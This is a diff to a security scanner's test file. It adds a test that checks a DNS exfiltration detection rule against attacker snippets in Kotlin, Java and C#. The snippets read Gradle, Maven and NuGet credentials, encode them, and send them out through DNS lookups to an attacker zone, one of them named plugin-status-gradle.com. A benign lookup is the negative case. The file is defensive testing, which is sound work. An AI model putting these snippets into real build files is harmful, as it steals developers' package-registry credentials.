@@ -143,4 +143,30 @@ describe('attacker forms, eleventh set', () => {
     const log = cs.replace('"/bin/sh"', '"dotnet"').replace(/.*CopyToAsync.*\n?/g, '')
     expect(hitsOf('reverse_shell', { 'Agent.cs': log })).toEqual([])
   })
+
+  it('finds labels cut from Gradle, Maven and NuGet credentials in Kotlin, Java and C#', () => {
+    const kts = [
+      'val props = File(System.getProperty("user.home") + "/.gradle/gradle.properties").readText()',
+      'val hex = props.toByteArray().joinToString("") { "%02x".format(it) }',
+      'hex.chunked(56).forEachIndexed { i, c -> InetAddress.getByName("$c.$i.r.plugin-status-gradle.com") }',
+    ].join('\n')
+    expect(hitsOf('dns_exfiltration', { 'check.gradle.kts': kts }))
+      .toEqual(['error dns_exfiltration check.gradle.kts:3:54'])
+    const java = [
+      'Path s = Paths.get(System.getProperty("user.home"), ".m2", "settings.xml");',
+      'String enc = Base64.getUrlEncoder().encodeToString(Files.readString(s).getBytes());',
+      'for (int i = 0; i * 48 < enc.length(); i++)',
+      '    InetAddress.getByName(enc.substring(i * 48, i * 48 + 48) + "." + i + "." + zone);',
+    ].join('\n')
+    expect(hitsOf('dns_exfiltration', { 'Probe.java': java })).toEqual(['error dns_exfiltration Probe.java:4:17'])
+    const cs = [
+      'var creds = Environment.GetEnvironmentVariable("NUGET_API_KEY");',
+      'var enc = Convert.ToHexString(Encoding.UTF8.GetBytes(creds));',
+      'for (int i = 0, n = 0; i < enc.Length; i += 50, n++)',
+      '    Dns.GetHostEntry($"{enc.Substring(i, 50)}.{n}.{zone}");',
+    ].join('\n')
+    expect(hitsOf('dns_exfiltration', { 'Feed.cs': cs })).toEqual(['error dns_exfiltration Feed.cs:4:9'])
+    const plain = 'var ip = Dns.GetHostEntry("api.nuget.org");\n'
+    expect(hitsOf('dns_exfiltration', { 'Feed.cs': plain })).toEqual([])
+  })
 })
